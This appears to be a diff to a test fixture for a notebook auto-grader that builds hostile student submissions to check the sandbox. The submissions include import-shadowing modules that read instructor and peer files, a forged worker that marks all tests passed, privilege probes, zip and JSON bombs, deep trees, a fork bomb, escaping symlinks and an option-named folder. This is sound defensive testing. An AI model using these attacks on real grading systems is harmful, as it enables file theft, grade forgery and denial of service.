@@ -480,13 +480,37 @@ def assignment_paths(name: str) -> tuple[Path, Path]:
 
 
 def digest(path: Path) -> str:
+    """A file's content hash (a link: its target; a file over 64 MB, such as a sparse one: its size, time and first
+    MB, so that a 3 GiB sparse file is not read out)."""
     if path.is_symlink():
         return "link:" + os.readlink(path)
-    return hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else "missing"
+    if not path.is_file():
+        return "missing"
+    info = path.stat()
+    if info.st_size > 64 * 2**20:
+        with open(path, "rb") as f:
+            return f"big:{info.st_size}:{info.st_mtime_ns}:{hashlib.sha256(f.read(2**20)).hexdigest()}"
+    return hashlib.sha256(path.read_bytes()).hexdigest()
 
 
 def tree(folder: Path) -> dict:
-    return {str(p.relative_to(folder)): digest(p) for p in sorted(folder.rglob("*")) if p.is_file() or p.is_symlink()}
+    """{relative path: digest} of every file, link and special file below folder, walked without recursion (a
+    submission may hold a tree thousands of levels deep) and without following links."""
+    import stat
+
+    found, stack = {}, [folder]
+    while stack:
+        current = stack.pop()
+        with os.scandir(current) as entries:
+            for entry in entries:
+                path = Path(entry.path)
+                if entry.is_dir(follow_symlinks=False):
+                    stack.append(path)
+                    continue
+                mode = entry.stat(follow_symlinks=False).st_mode
+                special = not (stat.S_ISREG(mode) or stat.S_ISLNK(mode))
+                found[str(path.relative_to(folder))] = f"special:{stat.S_IFMT(mode)}" if special else digest(path)
+    return dict(sorted(found.items()))
 
 
 def survivors(marker: str) -> list[int]:
@@ -689,6 +713,420 @@ def _grade_class(name: str, base: Path) -> None:
         "seconds_per_submission": round(sum(r.seconds for r in results) / len(results), 1),
         "load_average_at_start": round(load, 1),
         "load_average_at_end": round(load_end, 1),
+    }
+    (base / "run.json.tmp").write_text(json.dumps(run))
+    os.replace(base / "run.json.tmp", base / "run.json")
+
+
+# ------------------------------------------------------------------------------ issue 36: escaping the sandbox
+ESCAPE_CLASS = "04_wasserstein_lp"  # the quickest kernels: its attacks are on the grader, not on the checks
+ESCAPE_LIMITS = ["--folder-gb", "0.05", "--file-gb", "0.25", "--ram-gb", "3", "--processes", "256"]
+FORK_BOMB_HOLD = 30  # seconds the fork bomb holds its processes while a second grader run grades its class
+RECORDS = "/tmp/course-lib-attack-records"  # in the sandbox's private /tmp: where shadowing modules say who ran them
+STALE_DEPTH = 1_500
+
+# A module a submission ships to shadow one the grader imports. Wherever it runs it records who ran it (uid,
+# capabilities, command line), tries to steal the instructor's files and another student's, and leaves a file
+# in the canary folder outside every submission; `json` then hands over the real module, so that the kernel
+# that imports it works on.
+_SHADOW = """
+import os as _os, sys as _sys
+def _course_lib_attack(module):
+    status = {}
+    try:
+        for line in open("/proc/self/status"):
+            key, _, value = line.partition(":")
+            status[key] = value.strip()
+    except OSError:
+        pass
+    record = (f"SHADOW {module} uid={_os.getuid()} euid={_os.geteuid()} capeff={status.get('CapEff')} "
+              f"argv={' '.join(_sys.argv)[:300]!r}\\n")
+    for path in (RECORDS, CANARY + "/escaped-" + module):
+        try:
+            with open(path, "a") as f:
+                f.write(record)
+        except OSError:
+            pass
+    for stolen in STEAL:
+        try:
+            data = open(stolen).read()[:3000]
+            with open(RECORDS, "a") as f:
+                f.write("STOLEN " + data + "\\n")
+        except OSError:
+            pass
+_course_lib_attack(NAME)
+"""
+_PASS_THROUGH = """
+_here = _os.path.dirname(_os.path.abspath(__file__))
+_sys.path[:] = [p for p in _sys.path if _os.path.abspath(p or ".") != _here]
+del _sys.modules[__name__]
+import importlib as _importlib
+_real = _importlib.import_module(__name__)
+_sys.modules[__name__] = _real
+globals().update({k: v for k, v in vars(_real).items() if not k.startswith("__")})
+"""
+_FORGED_WORKER = """
+def main(argv=None):
+    import json
+    job = json.load(open(argv[0]))
+    bundle = json.load(open(job["bundle"]))
+    questions = [dict(question=c["grade_id"], kind=c["kind"], points=c["points"], max_points=c["points"],
+                      status="passed") for c in bundle["cells"] if c["kind"] == "test"]
+    json.dump(dict(student=job["student"], path=job["submission"], questions=questions), open(job["result"], "w"))
+    return 0
+"""
+# The first cell of the submission that reports privileges: its own (the kernel), its parent's (the runner),
+# what a privileged process could do, and the shadowing modules' records. It all comes back to the student in
+# the executed notebook, where the test reads it.
+_PRIVILEGES = f"""
+import ctypes, os, stat
+def _status(pid):
+    found = {{}}
+    for line in open(f"/proc/{{pid}}/status"):
+        key, _, value = line.partition(":")
+        found[key] = value.strip()
+    return found
+_me, _runner = _status("self"), _status(os.getppid())
+_command = open(f"/proc/{{os.getppid()}}/cmdline", "rb").read().split(b"\\0")
+print("KERNEL", _me["Uid"].split()[0], _me["CapEff"], _me["CapBnd"], _me["NoNewPrivs"])
+print("RUNNER", _runner["Uid"].split()[0], _runner["CapEff"], _runner["CapBnd"], _runner["NoNewPrivs"],
+      os.readlink(f"/proc/{{os.getppid()}}/cwd"), [w.decode() for w in _command[1:3]])
+_tries = {{}}
+def _attempt(name, fn):
+    try:
+        fn()
+        _tries[name] = "ALLOWED"
+    except Exception as exc:
+        _tries[name] = type(exc).__name__
+def _mount():
+    libc = ctypes.CDLL(None, use_errno=True)
+    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) != 0:
+        raise OSError(ctypes.get_errno(), "mount")
+_attempt("setuid0", lambda: os.setuid(0))
+_attempt("mount", _mount)
+_attempt("mknod", lambda: os.mknod("/tmp/disk", 0o600 | stat.S_IFBLK, os.makedev(8, 0)))
+_attempt("chown", lambda: os.chown("/tmp", os.getuid(), -1))
+_attempt("signal_init", lambda: os.kill(1, 0))
+_attempt("write_inputs", lambda: open("/grading/in/job.json", "a").write(" "))
+print("TRIES", " ".join(f"{{k}}={{v}}" for k, v in sorted(_tries.items())))
+print(open({RECORDS!r}).read() if os.path.exists({RECORDS!r}) else "NO RECORDS")
+"""
+
+
+def _shadow(name: str, t: dict, pass_through: bool = False) -> bytes:
+    constants = (
+        f"RECORDS = {RECORDS!r}\nCANARY = {t['canary']!r}\nNAME = {name!r}\n"
+        f"STEAL = {[t['source'], t['bundle'], t['canary'] + '/secret.txt', t['class'] + '/reference/notes.txt']!r}\n"
+    )
+    return (constants + _SHADOW + (_PASS_THROUGH if pass_through else "")).encode()
+
+
+def _bombs(bundle: dict) -> str:
+    """A cell that writes results that unpack to far more than they take, a tree far deeper than any recursion
+    limit in its own folder, then kills its runner, so that nothing overwrites those files."""
+    tests = test_ids(bundle)
+    return f"""
+import io, json, os, signal, zipfile
+import numpy as np
+out = os.environ["COURSE_LIB_GRADING_IO"] + "/out"
+tests = {tests!r}
+header = io.BytesIO()
+np.lib.format.write_array_header_1_0(header, {{"descr": "<f8", "fortran_order": False, "shape": (2 ** 31,)}})
+with zipfile.ZipFile(f"{{out}}/{{tests[0]}}.npz", "w", zipfile.ZIP_DEFLATED) as z:
+    with z.open("a0.npy", "w", force_zip64=True) as member:
+        member.write(header.getvalue())
+        for _ in range(64):
+            member.write(bytes(2 ** 20))  # 64 MB of real zeros; the header declares 16 GiB
+open(f"{{out}}/{{tests[0]}}.json", "w").write(json.dumps([[{{"output": {{"__array__": "a0"}}}}]]))
+open(f"{{out}}/{{tests[1]}}.json", "w").write("[" + "[]," * 1_200_000 + "[]]")
+np.savez(f"{{out}}/{{tests[1]}}.npz")
+open(f"{{out}}/{{tests[2]}}.json", "w").write("[" * 200_000 + "]" * 200_000)
+np.savez(f"{{out}}/{{tests[2]}}.npz")
+open(f"{{out}}/executed.ipynb", "w").write('{{"cells": [], "x": [' + "[]," * 2_200_000 + '[]]}}')
+open(f"{{out}}/report.json", "w").write('{{"cells": {{}}, "x": [' + "[]," * 1_500_000 + '[]]}}')
+fd = os.open(".", os.O_RDONLY)
+for _ in range(3000):
+    os.mkdir("d", dir_fd=fd)
+    below = os.open("d", os.O_RDONLY, dir_fd=fd)
+    os.close(fd)
+    fd = below
+os.close(fd)
+os.kill(os.getppid(), signal.SIGKILL)
+"""
+
+
+def _fork_bomb(marker: str) -> str:
+    """A cell that starts processes until its uid may start no more, then holds them FORK_BOMB_HOLD seconds."""
+    return f"""
+import os, subprocess, time
+started = 0
+for _ in range(2000):
+    try:
+        subprocess.Popen(["sleep", "{FORK_BOMB_HOLD + 30}"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+                         stderr=subprocess.DEVNULL, env={{"PATH": os.environ["PATH"], "TAG": {marker!r}}})
+        started += 1
+    except Exception:
+        break
+print("FORK BOMB uid", os.getuid(), "started", started)
+time.sleep({FORK_BOMB_HOLD})
+"""
+
+
+def _plant(folder: Path, depth: int) -> None:
+    """A chain of depth folders below folder, each made relative to the one above (deeper than PATH_MAX is fine)."""
+    fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
+    try:
+        for _ in range(depth):
+            os.mkdir("d", dir_fd=fd)
+            below = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
+            os.close(fd)
+            fd = below
+    finally:
+        os.close(fd)
+
+
+def _junk_folder(folder: Path, notebook_name: str, blank, canary: Path) -> list:
+    """A folder submission whose notebook is blank, with everything a copy must not write out or follow: a 3 GiB
+    sparse file, a fifo, a socket, /dev/zero (as root), links out and a tree STALE_DEPTH levels deep. Returns what
+    must stay open while it is graded (the socket)."""
+    import socket
+
+    folder.mkdir()
+    nbformat.write(blank, folder / notebook_name)
+    with open(folder / "sparse.bin", "wb") as f:
+        f.truncate(3 * 1024**3)
+    os.mkfifo(folder / "fifo")
+    server = socket.socket(socket.AF_UNIX)
+    server.bind(str(folder / "socket"))
+    if os.geteuid() == 0:
+        os.mknod(folder / "zero", 0o666 | 0o020000, os.makedev(1, 5))
+    (folder / "secret_link").symlink_to(canary / "secret.txt")
+    (folder / "canary_folder").symlink_to(canary)
+    (folder / "data.txt").write_text("mine")
+    os.link(folder / "data.txt", folder / "data_again.txt")
+    _plant(folder, STALE_DEPTH)
+    return [server]
+
+
+def escape_class(tmp_path_factory) -> dict:
+    """Issue 36's attacks, graded once per test session (shared across xdist workers like `graded_class`)."""
+    import fcntl
+
+    shared = tmp_path_factory.getbasetemp()
+    if os.environ.get("PYTEST_XDIST_WORKER"):
+        shared = shared.parent
+    base = shared / "escape-class"
+    with open(shared / "escape-class.lock", "w") as lock:
+        fcntl.flock(lock, fcntl.LOCK_EX)
+        try:
+            if not (base / "run.json").is_file():
+                if base.exists():
+                    from course_lib.grading import trees
+
+                    trees.remove_tree(base)  # a run that failed half-way (it may hold deep trees)
+                _grade_escape_class(base)
+        finally:
+            fcntl.flock(lock, fcntl.LOCK_UN)
+    run = json.loads((base / "run.json").read_text())
+    run.update({k: Path(v) for k, v in run["paths"].items()})
+    run["summary"] = json.loads((run["out"] / "summary.json").read_text())
+    run["summary_b"] = json.loads((run["out_b"] / "summary.json").read_text())
+    return run
+
+
+GRADER = (  # what the `course-lib` console script runs: its own folder, not the working directory, is on sys.path
+    "import sys; sys.path[:] = [p for p in sys.path if p not in ('', '.')]; "
+    "from course_lib.cli.main import main; sys.exit(main())"
+)
+
+
+def _grade_escape_class(base: Path) -> None:
+    import subprocess
+    import sys
+    import tempfile
+    import uuid
+
+    from course_lib.grading import grade
+
+    name = ESCAPE_CLASS
+    source, bundle_path = assignment_paths(name)
+    bundle = json.loads(bundle_path.read_text())
+    notebook = bundle["notebook"]
+    klass, klass_b, canary = base / "class", base / "class_b", base / "canary"
+    out, out_b, refused_out = base / "graded", base / "graded_b", base / "refused"
+    for folder in (klass, klass_b, canary):
+        folder.mkdir(parents=True)
+    secret, other_secret = f"canary-secret-{uuid.uuid4().hex}", f"reference-secret-{uuid.uuid4().hex}"
+    (canary / "secret.txt").write_text(secret)
+    marker = f"course-lib-attack-{uuid.uuid4().hex[:12]}"
+    t = {"source": str(source), "bundle": str(bundle_path), "canary": str(canary), "class": str(klass)}
+    blank = nbformat.read(ROOT / "assignments" / name / "student" / notebook, as_version=4)
+    honest_students = honest(name, FIXTURES / name, bundle["max_points"])
+    deserved = {}
+    # Honest students: the reference as a folder with a file of its own (what another student would steal).
+    reference, full = honest_students.pop("reference")
+    write_submission(
+        klass, notebook, "reference", {"notebook": reference, "files": {"notes.txt": other_secret.encode()}}
+    )
+    deserved["reference"] = full
+    for who, (nb, points) in honest_students.items():
+        write_submission(klass, notebook, who, nb)
+        deserved[who] = points
+    # 1. Modules in the submission folder that shadow what the runner imports (it ran as root with every
+    #    capability, in /submission, with that folder first on sys.path), and a report of privileges from inside.
+    shadows = {
+        "json.py": _shadow("json", t, pass_through=True),
+        "nbformat.py": _shadow("nbformat", t),
+        "nbclient.py": _shadow("nbclient", t),
+        "sitecustomize.py": _shadow("sitecustomize", t),
+        "usercustomize.py": _shadow("usercustomize", t),
+        "course_lib/__init__.py": _shadow("course_lib", t),
+        "course_lib/grading/__init__.py": b"",
+        "course_lib/grading/runner.py": _shadow("course_lib.grading.runner", t)
+        + b"\ndef main(argv=None):\n    return 0\n",
+    }
+    first = with_code(blank, _PRIVILEGES, FIRST_ANSWER[name])
+    write_submission(klass, notebook, "shadows", {"notebook": first, "files": shadows})
+    deserved["shadows"] = 0
+    # 2. Student folders named like modules the grader's workers import (they started with -m in the grader's
+    #    working directory, which the instructor may well have made the class folder): the worker itself.
+    for module, files in {
+        "json": {"__init__.py": _shadow("json-folder", t)},
+        "course_lib": {
+            "__init__.py": _shadow("course_lib-folder", t),
+            "grading/__init__.py": b"",
+            "grading/worker.py": _shadow("course_lib.grading.worker-folder", t) + _FORGED_WORKER.encode(),
+        },
+    }.items():
+        (klass / module).mkdir()
+        for rel, data in {**files, notebook: b"not a notebook"}.items():
+            (klass / module / rel).parent.mkdir(parents=True, exist_ok=True)
+            (klass / module / rel).write_bytes(data)
+        deserved[module] = 0
+    # 3 and 5. A folder with a tree 1,500 levels deep, a 3 GiB sparse file, special files and links; a folder over
+    #    the folder limit (0.05 GB here) in real bytes.
+    keep_open = _junk_folder(klass / "junk_folder", notebook, blank, canary)
+    deserved["junk_folder"] = 0
+    (klass / "too_big").mkdir()
+    nbformat.write(blank, klass / "too_big" / notebook)
+    (klass / "too_big" / "weights.bin").write_bytes(os.urandom(1 << 20) * 60)
+    deserved["too_big"] = 0
+    # 4. Results and notebooks that unpack to far more than they take, and a tree 3,000 levels deep made by the
+    #    kernel in its own folder; a submitted notebook of nested empty lists.
+    write_submission(klass, notebook, "bombs", with_final_cell(blank, _bombs(bundle)))
+    deserved["bombs"] = 0
+    (klass / "notebook_bomb.ipynb").write_bytes(
+        b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5, "x": [' + b"[]," * 2_400_000 + b"[]]}"
+    )
+    deserved["notebook_bomb"] = 0
+    # 6. A fork bomb that holds every process its uid may have while a second, concurrent grader run grades.
+    write_submission(klass, notebook, "fork_bomb", with_code(blank, _fork_bomb(marker), FIRST_ANSWER[name]))
+    deserved["fork_bomb"] = 0
+    # 7. Student folders that are links: to another student's folder, and out of the class.
+    (klass / "link_to_reference").symlink_to("reference")
+    (klass / "link_outside").symlink_to(canary)
+    deserved["link_to_reference"] = deserved["link_outside"] = 0
+    # 8. A folder named like an option (which `course-lib grade *` would pass as one).
+    (klass / "--total-timeout=3").mkdir()
+    (klass / "--total-timeout=3" / notebook).write_bytes(b"not a notebook")
+    deserved["--total-timeout=3"] = 0
+    # The second class: honest students only.
+    for who in ("reference", PARTIAL[name][0]):
+        handed_in = (klass / who / notebook) if who == "reference" else (klass / f"{who}.ipynb")
+        (klass_b / f"{who}.ipynb").write_bytes(handed_in.read_bytes())
+    deserved_b = {"reference": deserved["reference"], PARTIAL[name][0]: deserved[PARTIAL[name][0]]}
+    # A killed grader's scratch folder with a tree deeper than any recursion limit: the next run must start anyway.
+    dead = subprocess.Popen(["true"])
+    dead.wait()
+    stale = Path(tempfile.gettempdir()) / f"course-lib-grade-{dead.pid}-stale{uuid.uuid4().hex[:6]}"
+    stale.mkdir()
+    _plant(stale, STALE_DEPTH)
+    before = {
+        "tree": tree(klass),
+        "canary": tree(canary),
+        "source": digest(source),
+        "bundle": digest(bundle_path),
+        "links": {p.name: os.readlink(p) for p in klass.iterdir() if p.is_symlink()},
+    }
+    options = ["--assignment", name, "--workers", "2", "--fast", "--quiet", "--cell-timeout", "60"]
+    options += ["--total-timeout", "300", *ESCAPE_LIMITS]
+    everyone = sorted(os.listdir(klass))  # what the shell's * gives, in the class folder
+    # 8. `course-lib grade * ...` in the class folder: refused, nothing written.
+    refused = subprocess.run(
+        [sys.executable, "-c", GRADER, "grade", *everyone, *options, "--out", str(refused_out)],
+        cwd=klass,
+        capture_output=True,
+        text=True,
+        timeout=300,
+        check=False,
+    )
+    # The class, from inside the class folder, names after `--`; the second class once the fork bomb holds.
+    started, load = time.monotonic(), os.getloadavg()[0]
+    with open(base / "grader.log", "w") as log:
+        grader = subprocess.Popen(
+            [sys.executable, "-c", GRADER, "grade", *options, "--out", str(out), "--", *everyone],
+            cwd=klass,
+            stdout=log,
+            stderr=log,
+        )
+    held = 0
+    while grader.poll() is None and time.monotonic() - started < 600:
+        held = len(survivors(marker))
+        if held >= 100:
+            break
+        time.sleep(0.2)
+    second_started = time.monotonic()
+    grade(
+        sorted(klass_b.iterdir()),
+        name,
+        out_b,
+        workers=2,
+        cell_timeout=60,
+        total_timeout=300,
+        fast=True,
+        limits={"folder_gb": 0.05, "file_gb": 0.25, "ram_gb": 3.0},
+        progress=False,
+    )
+    second_seconds = time.monotonic() - second_started
+    held_after = len(survivors(marker))
+    grader.wait(timeout=900)
+    seconds = time.monotonic() - started
+    for sock in keep_open:
+        sock.close()
+    left = survivors(marker)
+    scratch_left = sorted(
+        str(p)
+        for p in Path(tempfile.gettempdir()).glob("course-lib-grade-*-*")
+        if p.name.split("-")[3] in (str(grader.pid), str(os.getpid()))
+    )
+    run = {
+        "name": name,
+        "deserved": deserved,
+        "deserved_b": deserved_b,
+        "secrets": [secret, other_secret],
+        "before": before,
+        "refused": {"code": refused.returncode, "stderr": refused.stderr[-2000:]},
+        "grader_code": grader.returncode,
+        "fork_bomb_held": held,
+        "fork_bomb_held_after_second_run": held_after,
+        "second_run_seconds": round(second_seconds, 1),
+        "survivors": left,
+        "stale_left": stale.exists(),
+        "scratch_left": scratch_left,
+        "hidden_lines": hidden_lines(bundle, blank),
+        "seconds": round(seconds, 1),
+        "load_average_at_start": round(load, 1),
+        "paths": {
+            "out": str(out),
+            "out_b": str(out_b),
+            "refused_out": str(refused_out),
+            "klass": str(klass),
+            "canary": str(canary),
+            "base": str(base),
+        },
+        "questions": len([c for c in bundle["cells"] if c["kind"] in ("test", "manual", "task")]),
+        "everyone": everyone,
+        "grader_pid": grader.pid,
     }
     (base / "run.json.tmp").write_text(json.dumps(run))
     os.replace(base / "run.json.tmp", base / "run.json")
